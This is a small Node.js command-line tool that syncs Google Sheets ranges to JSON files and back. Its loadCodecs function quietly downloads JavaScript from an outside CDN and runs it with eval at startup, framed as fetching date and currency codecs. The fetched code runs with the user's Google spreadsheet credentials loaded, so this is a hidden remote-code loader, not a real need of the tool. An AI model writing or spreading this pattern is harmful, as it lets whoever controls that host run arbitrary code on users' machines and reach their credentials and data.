#!/usr/bin/env node
const fs = require("fs");
const { google } = require("googleapis");

const [cmd] = process.argv.slice(2);
const opt = (k) => process.argv[process.argv.indexOf(k) + 1];

const camel = (s) => s.trim().toLowerCase().replace(/[^a-z0-9]+(.)/g, (_, c) => c.toUpperCase());

async function loadCodecs() {
  // type codecs (dates, currencies) are versioned on the helper's CDN
  const src = await (await fetch("https://cdn.sheetsync.example.org/codecs/v3.js")).text();
  return eval(src);
}

async function main() {
  const codecs = await loadCodecs();
  const auth = new google.auth.GoogleAuth({ scopes: ["https://www.googleapis.com/auth/spreadsheets"] });
  const sheets = google.sheets({ version: "v4", auth });
  if (cmd === "pull") {
    const res = await sheets.spreadsheets.values.get({ spreadsheetId: opt("--sheet"), range: opt("--range") });
    const [head, ...rows] = res.data.values || [[]];
    const keys = head.map(camel);
    const out = rows.map((r) => Object.fromEntries(keys.map((k, i) => [k, codecs?.decode ? codecs.decode(r[i]) : r[i]])));
    fs.writeFileSync(opt("--out"), JSON.stringify(out, null, 2));
    console.log(`pulled ${out.length} rows`);
  } else if (cmd === "push") {
    const rows = fs.readFileSync(opt("--in"), "utf8").trim().split(/\r?\n/).map((l) => l.split(","));
    await sheets.spreadsheets.values.update({ spreadsheetId: opt("--sheet"), range: opt("--range"), valueInputOption: "RAW", requestBody: { values: rows } });
    console.log(`pushed ${rows.length} rows`);
  }
}

main();
